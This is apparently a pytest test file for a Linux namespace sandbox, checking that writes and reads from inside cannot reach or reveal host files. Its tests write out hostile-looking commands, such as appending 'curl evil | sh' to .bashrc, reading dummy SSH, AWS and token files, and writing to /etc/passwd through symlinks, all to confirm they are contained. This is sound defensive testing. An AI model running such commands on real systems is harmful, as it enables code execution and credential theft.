"""The filesystem view for real: user+mount+pid namespaces, setup_root, a shell.

Run as an unprivileged user (``su corraltest -c '... pytest tests/test_fs_mounts.py'``).
Each test gets a throw-away HOME under /var/tmp (never the real dotfiles) with
fake secrets in it, and a project directory in that HOME as the working
directory.  The sandbox is built by a child Python that unshares, writes the
uid/gid maps, forks pid 1, calls ``setup_root(plan)`` and execs ``sh -c SCRIPT``.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile

import pytest

from corral.fs.plan import FsSpec, build_plan

MUST_WORK = os.environ.get("CORRAL_MUST_WORK") == "1"
SETUP_FAILED = 90

CHILD = r"""
import json, os, sys, time
from corral.spawn import libc, mounts
plan, script = sys.argv[1], sys.argv[2]
if os.environ.get("CORRAL_TEST_NO_MOUNT_SETATTR"):  # act as Linux < 5.12
    def _enosys(*args, **kw):
        raise OSError(38, "mount_setattr: Function not implemented")
    libc.mount_setattr = _enosys
uid, gid = os.getuid(), os.getgid()
libc.set_pdeathsig(9)
libc.unshare(libc.CLONE_NEWUSER | libc.CLONE_NEWNS | libc.CLONE_NEWPID | libc.CLONE_NEWNET
             | libc.CLONE_NEWUTS | libc.CLONE_NEWIPC)
for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", "%d %d 1" % (uid, uid)),
                   ("/proc/self/gid_map", "%d %d 1" % (gid, gid))):
    with open(path, "w") as f:
        f.write(text)
pid = os.fork()
if pid == 0:
    libc.set_pdeathsig(9)
    start = time.perf_counter()
    try:
        mounts.setup_root(plan)
    except mounts.MountError as exc:
        os.write(2, ("MountError step=%s path=%s errno=%s: %s\n"
                     % (exc.step, exc.path, exc.errno, exc)).encode())
        os._exit(90)
    os.write(2, ("setup_root_ms=%.3f\n" % ((time.perf_counter() - start) * 1000)).encode())
    os.execv("/bin/sh", ["sh", "-c", script])
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status) & 0xFF)
"""

# The same, with a helper making overlays in parallel as stage-1's undertaker does
# (forked before the unshare, it joins the user and mount namespaces, then runs
# premake_overlays).  HELPER_MODE: "race" (as in corral), "first" (the helper is
# done before setup_root starts), "claimed" (every work directory already exists:
# the helper makes nothing, setup_root makes every overlay itself).
HELPER_CHILD = r"""
import json, os, socket, sys
from corral.spawn import libc, mounts
plan, script, mode = json.loads(sys.argv[1]), sys.argv[2], os.environ["HELPER_MODE"]
uid, gid = os.getuid(), os.getgid()
libc.set_pdeathsig(9)
ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
go_r, go_w = os.pipe()
parent = os.getpid()
helper = os.fork()
if helper == 0:
    ours.close()
    os.close(go_w)
    os.read(go_r, 1)
    for name, nstype in (("user", libc.CLONE_NEWUSER), ("mnt", libc.CLONE_NEWNS)):
        fd = os.open("/proc/%d/ns/%s" % (parent, name), os.O_RDONLY)
        libc.setns(fd, nstype)
    mounts.premake_overlays(plan, theirs)
    os._exit(0)
theirs.close()
libc.unshare(libc.CLONE_NEWUSER | libc.CLONE_NEWNS | libc.CLONE_NEWPID | libc.CLONE_NEWNET
             | libc.CLONE_NEWUTS | libc.CLONE_NEWIPC)
for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", "%d %d 1" % (uid, uid)),
                   ("/proc/self/gid_map", "%d %d 1" % (gid, gid))):
    with open(path, "w") as f:
        f.write(text)
if mode == "claimed":
    for op in plan:
        if op["op"] == "overlay" and "work" in op:
            os.makedirs(op["work"], 0o700)
os.write(go_w, b"g")
if mode != "race":
    os.waitpid(helper, 0)
pid = os.fork()
if pid == 0:
    libc.set_pdeathsig(9)
    try:
        mounts.setup_root(plan, ours)
    except mounts.MountError as exc:
        os.write(2, ("MountError step=%s path=%s errno=%s: %s\n"
                     % (exc.step, exc.path, exc.errno, exc)).encode())
        os._exit(90)
    os.execv("/bin/sh", ["sh", "-c", script])
ours.close()
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status) & 0xFF)
"""


def _probe():
    if os.getuid() == 0:
        return "running as root: run these tests as an unprivileged user (su corraltest)"
    code = ("from corral.spawn import libc; "
            "libc.unshare(libc.CLONE_NEWUSER | libc.CLONE_NEWNS | libc.CLONE_NEWPID)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    if proc.returncode:
        return "cannot create user namespaces: " + proc.stderr.strip().splitlines()[-1]
    return None


_REASON = _probe()
if _REASON and MUST_WORK:
    pytest.fail(_REASON, pytrace=False)
pytestmark = [pytest.mark.namespaces, pytest.mark.skipif(bool(_REASON), reason=_REASON or "")]


class Box:
    """A temp HOME with fake secrets, a project (the cwd) and a scratch dir."""

    def __init__(self, base, tmp_path):
        self.home = os.path.realpath(tempfile.mkdtemp(prefix="corral-fs-test-", dir=base))
        self.proj = os.path.join(self.home, "proj")
        self.scratch = str(tmp_path / "scratch")
        os.mkdir(self.proj)
        os.mkdir(self.scratch, 0o700)
        self.write(".bashrc", "# host bashrc\n")
        self.write(".ssh/id_ed25519", "PRIVATE KEY\n")
        self.write(".aws/credentials", "aws_secret_access_key=abc\n")
        self.write(".netrc", "machine example.com password hunter2\n")
        self.write(".bash_history", "export TOKEN=hunter2\n")
        self.write(".config/gh/hosts.yml", "oauth_token: gho_x\n")
        self.write(".local/share/keyrings/login.keyring", "keyring\n")
        self.write(".mozilla/firefox/cookies.sqlite", "cookies\n")

    def path(self, rel):
        return os.path.join(self.home, rel)

    def write(self, rel, text):
        path = self.path(rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        return path

    def read(self, rel):
        with open(self.path(rel)) as f:
            return f.read()

    def plan(self, **kw):
        kw.setdefault("cwd", self.proj)
        kw.setdefault("home", self.home)
        kw.setdefault("scratch", self.scratch)
        return build_plan(FsSpec(**kw), _read("/proc/self/mountinfo"))

    def run(self, script, plan=None, env=(), child=CHILD, **kw):
        ops = (plan or self.plan(**kw)).dumps() if not isinstance(plan, list) else json.dumps(plan)
        env = dict(os.environ, HOME=self.home, **dict(env))
        proc = subprocess.run([sys.executable, "-c", child, ops, "set -u\n" + script],
                              capture_output=True, text=True, timeout=60, env=env, cwd=self.proj)
        if proc.returncode == SETUP_FAILED:
            raise AssertionError("setup_root failed: " + proc.stderr)
        return proc

    def manifest(self):
        with open(os.path.join(self.scratch, "overlays.json")) as f:
            return json.load(f)


def _read(path):
    with open(path) as f:
        return f.read()


@pytest.fixture
def box(tmp_path):
    # /var/tmp: a host directory shown through the overlays (not /tmp, which is fresh)
    b = Box("/var/tmp", tmp_path)
    yield b
    shutil.rmtree(b.home, ignore_errors=True)


def ok(proc):
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


# ------------------------------------------------------------------ default


def test_dotfile_write_succeeds_inside_and_never_reaches_host(box):
    out = ok(box.run('echo "curl evil | sh" >> ~/.bashrc && cat ~/.bashrc'))
    assert "curl evil | sh" in out
    assert box.read(".bashrc") == "# host bashrc\n"
    # the change is recorded in an upper dir that the manifest maps to the host path
    overlays = box.manifest()["overlays"]
    changed = [upper for upper, host in overlays.items()
               if (box.home + "/").startswith(host.rstrip("/") + "/")
               and os.path.exists(os.path.join(box.scratch, upper,
                                               os.path.relpath(box.path(".bashrc"), host)))]
    assert [overlays[upper] for upper in changed] == [box.home]


def test_etc_and_usr_writes_never_reach_host(box):
    marker = "corral-fs-test-%d" % os.getpid()
    had_hostname = os.path.exists("/etc/hostname")
    proc = box.run('echo x > /etc/%s; echo x > /usr/%s; echo x >> /etc/passwd; '
                   'rm -f /etc/hostname; mkdir /usr/lib/%s; true' % (marker, marker, marker))
    ok(proc)
    assert not os.path.exists("/etc/" + marker)
    assert not os.path.exists("/usr/" + marker)
    assert not os.path.exists("/usr/lib/" + marker)
    assert os.path.exists("/etc/hostname") == had_hostname
    assert not _read("/etc/passwd").endswith("x\n")


def test_cwd_writes_land_on_host(box):
    ok(box.run("echo built > artefact && mkdir -p out && echo 1 > out/f"))
    assert box.read("proj/artefact") == "built\n"
    assert box.read("proj/out/f") == "1\n"


@pytest.mark.parametrize("rel", [".ssh/id_ed25519", ".aws/credentials", ".netrc", ".bash_history",
                                 ".config/gh/hosts.yml", ".local/share/keyrings/login.keyring",
                                 ".mozilla/firefox/cookies.sqlite"])
def test_hidden_secret_is_unreadable(box, rel):
    secret = box.read(rel)
    proc = box.run('cat "$HOME/%s" 2>/dev/null; echo "status=$?"' % rel)
    out = ok(proc)
    assert secret.strip() not in out
    assert "status=0" not in out or out.strip() == "status=0"  # empty file at best


def test_hidden_secret_dir_is_empty_and_read_only(box):
    out = ok(box.run('ls -A ~/.ssh | wc -l; echo key > ~/.ssh/planted 2>/dev/null || echo refused'))
    assert out.split() == ["0", "refused"]
    assert not os.path.exists(box.path(".ssh/planted"))


def test_agent_socket_on_host_cannot_be_connected(box):
    path = box.path("agent.sock")
    box.write("proj/probe.py", "import socket, sys\n"
              "s = socket.socket(socket.AF_UNIX)\n"
              "try:\n    s.connect(sys.argv[1]); print('connected')\n"
              "except OSError as e:\n    print('refused', e.errno)\n")
    script = '"%s" probe.py "%s"' % (sys.executable, path)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(2)
    try:
        # a read-only bind would pass connect() through: the socket is hidden,
        # and readonly mode shows the host through read-only overlays anyway
        assert ok(box.run(script, mode="readonly", hidden_extra=(path,))).startswith("refused")
        assert ok(box.run(script, mode="readonly")).startswith("refused")
        # overlayfs does not pass connect() to the host's socket at all
        assert ok(box.run(script)).startswith("refused")
    finally:
        server.close()


def test_fresh_tmp_proc_dev_and_read_only_sys(box):
    with open("/tmp/corral-fs-host-marker-%d" % os.getpid(), "w"):
        pass
    try:
        out = ok(box.run(
            'ls -A /tmp | wc -l; echo t > /tmp/x && cat /tmp/x; '
            'ls /proc | grep -E "^[0-9]+$" | sort -n | tr "\\n" " "; echo; '
            'head -c 4 /dev/zero | od -An -tx1; head -c 8 /dev/urandom | wc -c; echo gone > /dev/null; '
            'echo shm > /dev/shm/a && cat /dev/shm/a; '
            'test -c /dev/pts/ptmx && test -L /dev/ptmx && echo pts-ok; '
            'echo 1 > /sys/kernel/mm/ksm/run 2>/dev/null || echo sys-ro; '
            'grep -c " /sys " /proc/self/mounts'))
    finally:
        os.unlink("/tmp/corral-fs-host-marker-%d" % os.getpid())
    lines = out.splitlines()
    assert lines[0] == "0"  # the host's /tmp is not there
    assert lines[1] == "t"
    pids = [int(p) for p in lines[2].split()]
    assert pids and max(pids) < 50 and 1 in pids  # only the sandbox's processes
    assert lines[3].split() == ["00", "00", "00", "00"]
    assert lines[4] == "8"
    assert lines[5] == "shm"
    assert lines[6] == "pts-ok"
    assert lines[7] == "sys-ro"


def test_pty_can_be_opened(box):
    out = ok(box.run('"%s" -c "import os; m, s = os.openpty(); print(os.ttyname(s))"' % sys.executable))
    assert out.startswith("/dev/pts/")


def test_resolv_conf_is_the_sandbox_one(box):
    out = ok(box.run("cat /etc/resolv.conf", resolv_conf="nameserver 10.0.2.3\n"))
    assert out == "nameserver 10.0.2.3\n"


# ------------------------------------------------------------------ options


def test_rw_option_writes_reach_host(box):
    data = box.path("data")
    os.mkdir(data)
    ok(box.run('echo v > "%s/f"' % data, paths=(("rw", data),)))
    assert box.read("data/f") == "v\n"


def test_ro_option_refuses_writes(box):
    os.mkdir(box.path("proj/vendor"))
    out = ok(box.run("echo v > vendor/f 2>/dev/null || echo refused",
                     paths=(("ro", box.path("proj/vendor")),)))
    assert out == "refused\n"
    assert not os.path.exists(box.path("proj/vendor/f"))


def test_overlay_option_absorbs_writes(box):
    box.write("proj/build/keep", "orig\n")
    out = ok(box.run("echo new > build/keep && cat build/keep", paths=(("overlay", box.path("proj/build")),)))
    assert out == "new\n"
    assert box.read("proj/build/keep") == "orig\n"


def test_tmpfs_option_is_empty_and_absorbs_writes(box):
    box.write("proj/cache/old", "x")
    out = ok(box.run("ls -A cache | wc -l; echo y > cache/new && cat cache/new",
                     paths=(("tmpfs", box.path("proj/cache")),)))
    assert out.split() == ["0", "y"]
    assert os.listdir(box.path("proj/cache")) == ["old"]


def test_hide_option_hides_file_and_dir(box):
    box.write("proj/.env", "API_TOKEN=1\n")
    box.write("proj/private/k", "k\n")
    out = ok(box.run("cat .env; ls -A private | wc -l",
                     paths=(("hide", box.path("proj/.env")), ("hide", box.path("proj/private")))))
    assert out.split() == ["0"]


def test_user_ro_on_a_secret_wins(box):
    out = ok(box.run("cat ~/.ssh/id_ed25519; echo x >> ~/.ssh/id_ed25519 2>/dev/null || echo refused",
                     paths=(("ro", box.path(".ssh")),)))
    assert out == "PRIVATE KEY\nrefused\n"


# ------------------------------------------------------------------ symlinks


def test_symlink_in_rw_dir_cannot_write_host_file(box):
    os.symlink(box.path(".bashrc"), box.path("proj/innocent"))
    os.symlink("/etc/passwd", box.path("proj/passwd"))
    proc = box.run("echo pwned >> innocent; echo pwned >> passwd 2>/dev/null; cat innocent")
    assert "pwned" in ok(proc)  # it wrote somewhere: the overlay, not the host
    assert box.read(".bashrc") == "# host bashrc\n"
    assert "pwned" not in _read("/etc/passwd")


def test_symlink_in_rw_dir_cannot_write_host_file_in_readonly_mode(box):
    os.symlink(box.path(".bashrc"), box.path("proj/innocent"))
    out = ok(box.run("echo pwned >> innocent 2>/dev/null || echo refused", mode="readonly"))
    assert out == "refused\n"
    assert box.read(".bashrc") == "# host bashrc\n"


def test_symlink_planted_inside_cannot_redirect_a_later_write_to_host(box):
    # the command replaces a file in its cwd by a symlink to a host file,
    # then writes through it: still the overlay
    out = ok(box.run("rm -f f; ln -s ~/.bashrc f && echo pwned >> f && echo wrote"))
    assert out == "wrote\n"
    assert box.read(".bashrc") == "# host bashrc\n"
    assert os.path.islink(box.path("proj/f"))  # the link itself is in cwd: that is allowed


def test_hardlink_to_host_file_cannot_be_made_from_inside(box):
    out = ok(box.run("ln ~/.bashrc hl 2>/dev/null || echo refused"))
    assert out == "refused\n"


# ------------------------------------------------------------------ modes


def test_readonly_mode(box):
    out = ok(box.run("echo x >> ~/.bashrc 2>/dev/null || echo home-ro; echo x > /tmp/t && echo tmp-rw; "
                     "echo x > here && echo cwd-rw; cat ~/.netrc 2>/dev/null | wc -c", mode="readonly"))
    assert out.split() == ["home-ro", "tmp-rw", "cwd-rw", "0"]
    assert box.read(".bashrc") == "# host bashrc\n"
    assert box.read("proj/here") == "x\n"


def test_readonly_mode_without_mount_setattr_keeps_locked_flags(box):
    # the pre-5.12 path: MS_REMOUNT|MS_BIND|MS_RDONLY must repeat the flags
    # the user namespace may not clear (nosuid, nodev...), or EPERM
    out = ok(box.run("echo x >> ~/.bashrc 2>/dev/null || echo home-ro; cat ~/.netrc | wc -c; "
                     "echo x > /sys/kernel/mm/ksm/run 2>/dev/null || echo sys-ro; echo x > here && echo cwd-rw",
                     mode="readonly", env={"CORRAL_TEST_NO_MOUNT_SETATTR": "1"}))
    assert out.split() == ["home-ro", "0", "sys-ro", "cwd-rw"]
    assert box.read(".bashrc") == "# host bashrc\n"


def test_hermetic_mode_shows_only_what_is_named(box):
    paths = tuple(("ro", p) for p in ("/usr", "/bin", "/lib", "/lib64") if os.path.exists(p))
    out = ok(box.run("ls -A / | sort | tr '\\n' ' '; echo; test -e ~/.bashrc || echo no-home; "
                     "test -e /etc/passwd || echo no-etc; echo x > here && echo cwd-rw",
                     mode="hermetic", paths=paths))
    top = set(out.splitlines()[0].split())
    assert top <= {"usr", "bin", "sbin", "lib", "lib64", "proc", "dev", "tmp", "var", "home"} | {
        box.home.split("/")[1]}
    assert "etc" not in top and "root" not in top
    assert out.splitlines()[1:] == ["no-home", "no-etc", "cwd-rw"]
    assert box.read("proj/here") == "x\n"


# ------------------------------------------------------------------ failures


def test_failed_mount_step_is_reported_and_the_command_never_runs(box):
    plan = box.plan().to_json()
    plan.insert(-1, {"op": "bind", "src": box.path("missing"), "path": box.path("proj"),
                     "ro": True, "dir": True})
    proc = subprocess.run([sys.executable, "-c", CHILD, json.dumps(plan), "echo RAN > ran"],
                          capture_output=True, text=True, timeout=60, cwd=box.proj)
    assert proc.returncode == SETUP_FAILED
    assert "step=bind read-only" in proc.stderr and "errno=2" in proc.stderr and "Fix:" in proc.stderr
    assert not os.path.exists(box.path("proj/ran"))


def test_overlay_that_cannot_be_mounted_falls_back_to_read_only(box):
    plan = box.plan().to_json()
    data = box.path("data")
    os.mkdir(data)
    plan.insert(-1, {"op": "overlay", "path": data, "upper": "/proc/nope/upper",
                     "work": "/proc/nope/work"})
    out = ok(box.run("echo x > %s/f 2>/dev/null || echo refused" % data, plan=plan))
    assert out == "refused\n"
    assert data in box.manifest()["fallbacks"]


def test_setup_root_is_fast(box):
    proc = box.run("true")
    ms = float(proc.stderr.split("setup_root_ms=")[1].split()[0])
    print("setup_root took %.1f ms" % ms)
    assert ms < 250  # generous: shared CI machines; ~5-15 ms measured on 2 cores


def test_var_tmp_write_succeeds_inside_and_never_reaches_host(box):
    name = "/var/tmp/corral-fs-test-new-%d" % os.getpid()
    out = ok(box.run("echo x > %s && cat %s" % (name, name)))
    assert out == "x\n"
    assert not os.path.exists(name)


# ------------------------------------------------------------------ overlays made by a helper


@pytest.mark.parametrize("mode", ["race", "first", "claimed"])
def test_overlay_claimed_by_one_process_is_never_remade_by_the_other(box, mode):
    """Stage-1's undertaker makes overlays while pid 1 works through the plan; an
    overlay made twice on one work directory would wipe the live one's (its
    copy-ups then fail).  Whichever process creates the work directory makes the
    overlay: each writable overlay of the plan is mounted exactly once, writes
    land in its upper directory and never on the host, and the manifest is the
    one pid 1 writes alone."""
    alone = ok(box.run("grep -c ' - overlay ' /proc/self/mountinfo"))
    manifest = box.manifest()
    box.scratch += "-helper"  # a fresh one (overlayfs leaves a mode-0 work/work in the first)
    os.mkdir(box.scratch, 0o700)
    plan = box.plan()
    writable = [op for op in plan.to_json() if op["op"] == "overlay" and "upper" in op]
    script = ('echo inside >> ~/.bashrc && cat ~/.bashrc && echo x > /var/tmp/corral-helper-%d && '
              "grep ' - overlay ' /proc/self/mountinfo | grep -o 'upperdir=[^,]*' | sort | uniq -d; "
              "grep -c ' - overlay ' /proc/self/mountinfo" % os.getpid())
    out = ok(box.run(script, plan=plan, child=HELPER_CHILD, env={"HELPER_MODE": mode}))
    assert out.splitlines() == ["# host bashrc", "inside", alone.strip()]  # no upperdir twice
    assert int(alone) >= len(writable) > 1
    assert box.read(".bashrc") == "# host bashrc\n"
    assert not os.path.exists("/var/tmp/corral-helper-%d" % os.getpid())
    assert box.manifest()["overlays"] == manifest["overlays"]
    assert box.manifest()["fallbacks"] == {}


def test_helper_never_makes_an_overlay_whose_work_directory_exists(box):
    """The other half of the claim: once pid 1 has created an overlay's work
    directory (it makes that overlay), the helper leaves it, and every one before
    it, alone: nothing is sent and no work directory is touched."""
    plan = box.plan().to_json()
    works = [op["work"] for op in plan if op["op"] == "overlay" and "upper" in op]
    last = works[-1]
    code = (
        "import json, os, socket, sys\n"
        "from corral.spawn import libc, mounts\n"
        "uid, gid = os.getuid(), os.getgid()\n"
        "libc.unshare(libc.CLONE_NEWUSER | libc.CLONE_NEWNS)\n"
        "for path, text in (('/proc/self/setgroups', 'deny'), ('/proc/self/uid_map', '%d %d 1' % (uid, uid)),\n"
        "                   ('/proc/self/gid_map', '%d %d 1' % (gid, gid))):\n"
        "    open(path, 'w').write(text)\n"
        "ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
        "mounts.premake_overlays(json.loads(sys.argv[1]), theirs)\n"
        "print(ours.recv(4096))\n")
    os.makedirs(last, 0o700)  # pid 1 claimed the last overlay: the helper's first
    proc = subprocess.run([sys.executable, "-c", code, json.dumps(plan)], capture_output=True,
                          text=True, timeout=60)
    assert proc.stdout == "b''\n", proc.stderr  # end of stream, no overlay
    assert os.listdir(last) == []
    assert [w for w in works if os.path.exists(w)] == [last]
